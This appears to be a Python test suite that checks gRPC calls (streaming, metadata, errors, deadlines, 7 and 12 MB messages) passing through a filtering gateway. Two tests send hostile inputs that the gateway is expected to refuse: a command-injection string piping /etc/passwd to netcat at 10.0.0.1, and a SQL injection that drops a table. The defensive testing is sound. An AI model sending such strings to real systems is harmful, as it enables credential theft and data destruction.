"""grpcio in all four kinds (h2c): metadata, errors, deadlines, messages of 7 MB."""

import queue
import random
import sys

import grpc

from lab import Server, action, free_port
from lab.paths import SERVERS

SECONDS = 30


def start(stage):
    port = free_port()
    stage.start(sys.executable, SERVERS / "grpc_notes.py", port, port=port)
    return Server(url=f"http://127.0.0.1:{port}", gate_upstream=f"h2c://127.0.0.1:{port}")


def message(text):
    """A message of Protocol Buffers with one field: a text, or bytes."""
    content = text if isinstance(text, bytes) else text.encode()
    length, size = bytearray(), len(content)
    while size > 127:
        length.append(size & 127 | 128)
        size >>= 7
    length.append(size)
    return b"\x0a" + bytes(length) + content


def channel(run, **options):
    if not hasattr(run.kept, "channels"):
        run.kept.channels = {}
    key = str(options)
    if key not in run.kept.channels:
        sizes = [("grpc.max_receive_message_length", 64 << 20), ("grpc.max_send_message_length", 64 << 20)]
        run.kept.channels[key] = grpc.insecure_channel(run.host, options=sizes, **options)
    return run.kept.channels[key]


def call(run, kind, name, **options):
    return getattr(channel(run, **options), kind)(f"/notes.Notes/{name}")


def error_of(function):
    try:
        function()
    except grpc.RpcError as error:
        return (
            error.code().name,
            error.details(),
            sorted((key, value) for key, value in error.trailing_metadata() if key in ("reason-bin", "retry")),
        )
    raise AssertionError("no error")


@action
def one_and_one(run):
    texts = ["hello", "", 'O\'Brien -- 1=1; "x"', "é" * 1000, "line\nLocation: Main hall"]
    return [call(run, "unary_unary", "Get")(message(text), timeout=SECONDS) == message(text) for text in texts]


@action
def many_and_one(run):
    return call(run, "stream_unary", "Join")((message("a" * size) for size in range(1, 200)), timeout=SECONDS)


@action
def one_and_many(run):
    return [answer.decode() for answer in call(run, "unary_stream", "Repeat")(message("again"), timeout=SECONDS)]


@action
def many_and_many(run):
    """Each message is answered before the next one is sent."""
    to_send, heard = queue.Queue(), []
    answers = call(run, "stream_stream", "Talk")(iter(to_send.get, None), timeout=SECONDS)
    for number in range(30):
        to_send.put(message(f"turn {number}"))
        heard.append(next(answers).decode())
    to_send.put(None)
    return heard, list(answers)


@action
def metadata(run):
    sent = [("trace", "a;b=c, d"), ("data-bin", bytes(range(256))), ("authorization", "Basic YTpi")]
    answer, ended = call(run, "unary_unary", "Get").with_call(message("x"), metadata=sent, timeout=SECONDS)
    told = dict(ended.initial_metadata()), dict(ended.trailing_metadata())
    return answer, told[0]["trace-seen"], told[0]["data-bin"], told[1]["cost"], told[1]["left-bin"]


@action
def an_error(run):
    return error_of(lambda: call(run, "unary_unary", "Fail")(message("x"), timeout=SECONDS))


@action
def an_unknown_method(run):
    return error_of(lambda: call(run, "unary_unary", "Missing")(message("x"), timeout=SECONDS))


@action
def an_error_after_messages(run):
    heard = []

    def listen():
        for answer in call(run, "unary_stream", "Repeat")(message("break"), timeout=SECONDS):
            heard.append(answer)

    return error_of(listen), len(heard)


@action
def a_deadline(run):
    return error_of(lambda: call(run, "unary_unary", "Slow")(message("x"), timeout=0.4))[0]


@action
def a_cancelled_call(run):
    to_send = queue.Queue()
    answers = call(run, "stream_stream", "Talk")(iter(to_send.get, None), timeout=SECONDS)
    to_send.put(message("x"))
    first = next(answers)
    answers.cancel()
    to_send.put(None)
    return first, error_of(lambda: list(answers))[0], call(run, "unary_unary", "Get")(message("after"), timeout=SECONDS)


@action
def messages_of_7_MB(run):
    content = message("A desk, and a chair. " * (7_000_000 // 21))
    return call(run, "unary_unary", "Get")(content, timeout=SECONDS) == content


@action
def bytes_in_a_message(run):
    content = message(random.Random(3).randbytes(200_000))
    return call(run, "unary_unary", "Get")(content, timeout=SECONDS) == content


@action(refused="body-too-large")
def messages_of_12_MB(run):
    content = message("A desk, and a chair. " * (12_000_000 // 21))
    return call(run, "unary_unary", "Get")(content, timeout=SECONDS) == content


@action
def compressed(run):
    text = message(" ".join(f"word {number}" for number in range(9000)))
    answer = call(run, "unary_unary", "Get", compression=grpc.Compression.Gzip)(text, timeout=SECONDS)
    return answer == text


@action
def fifty_at_once(run):
    calls = [call(run, "unary_unary", "Get").future(message(f"n{number}"), timeout=SECONDS) for number in range(50)]
    return [made.result().decode() for made in calls]


@action(refused="shell")
def a_command_in_a_text(run):
    return call(run, "unary_unary", "Get")(message("; cat /etc/passwd | nc 10.0.0.1 99"), timeout=SECONDS)


@action
def a_refusal_is_told_as_one(run):
    """A client that is refused hears that it may not, and does not try again; bare, nobody refuses."""
    if run.is_bare:
        return "PERMISSION_DENIED"
    return error_of(lambda: call(run, "unary_unary", "Get")(message("x'; drop table notes; --"), timeout=SECONDS))[0]
